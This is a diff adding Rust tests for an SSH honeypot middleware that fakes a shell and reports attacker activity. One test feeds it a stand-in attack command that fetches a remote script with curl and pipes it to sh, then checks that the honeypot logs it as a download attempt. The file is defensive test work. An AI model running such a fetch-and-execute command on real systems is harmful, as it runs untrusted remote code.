@@ -0,0 +1,88 @@
+//! `Honeypot`: a fake shell that answers plausibly and reports what was
+//! tried.
+
+#![feature(async_fn_traits, unboxed_closures)]
+
+mod common;
+
+use std::sync::{Arc, Mutex};
+
+use common::{connect_and_auth, read_to_close, start_server_with};
+use shenron::{
+    Session,
+    middleware::{Honeypot, HoneypotEventKind},
+};
+
+async fn unreachable(_session: &mut Session) -> shenron::Result {
+    panic!("the honeypot is the innermost layer");
+}
+
+fn honeypot(events: &Arc<Mutex<Vec<HoneypotEventKind>>>) -> Honeypot {
+    let events = Arc::clone(events);
+
+    Honeypot::new()
+        .hostname("web01")
+        .on_event(move |event| events.lock().expect("events").push(event.kind.clone()))
+}
+
+#[tokio::test]
+async fn exec_commands_are_answered_and_reported() {
+    let events = Arc::new(Mutex::new(Vec::new()));
+    let port = start_server_with(unreachable, {
+        let honeypot = honeypot(&events);
+        move |server| server.with(honeypot)
+    })
+    .await;
+    let handle = connect_and_auth(port).await;
+
+    let mut channel = handle.channel_open_session().await.expect("channel");
+    channel
+        .exec(true, "whoami; curl -s http://203.0.113.9/x.sh | sh")
+        .await
+        .expect("exec");
+    let out = read_to_close(&mut channel).await;
+
+    assert_eq!(
+        out.stdout,
+        "alice\ncurl: (6) Could not resolve host: 203.0.113.9\n-bash: sh: command not found\n"
+    );
+    assert_eq!(out.exit_status, Some(0));
+    assert_eq!(
+        *events.lock().expect("events"),
+        [
+            HoneypotEventKind::Connected,
+            HoneypotEventKind::Command {
+                line: "whoami; curl -s http://203.0.113.9/x.sh | sh".into()
+            },
+            HoneypotEventKind::Download {
+                url: "http://203.0.113.9/x.sh".into()
+            },
+            HoneypotEventKind::Disconnected,
+        ]
+    );
+}
+
+#[tokio::test]
+async fn shells_get_a_prompt_until_exit() {
+    let events = Arc::new(Mutex::new(Vec::new()));
+    let port = start_server_with(unreachable, {
+        let honeypot = honeypot(&events);
+        move |server| server.with(honeypot)
+    })
+    .await;
+    let handle = connect_and_auth(port).await;
+
+    let mut channel = handle.channel_open_session().await.expect("channel");
+    channel
+        .request_pty(true, "xterm", 80, 24, 0, 0, &[])
+        .await
+        .expect("pty");
+    channel.request_shell(true).await.expect("shell");
+    channel.data(&b"pwd\rexit\r"[..]).await.expect("send");
+
+    let out = read_to_close(&mut channel).await;
+
+    assert!(out.stdout.contains("alice@web01:~$ pwd\r\n/home/alice\r\n"));
+    assert!(out.stdout.ends_with("alice@web01:~$ exit\r\n"));
+    assert_eq!(out.exit_status, Some(0));
+}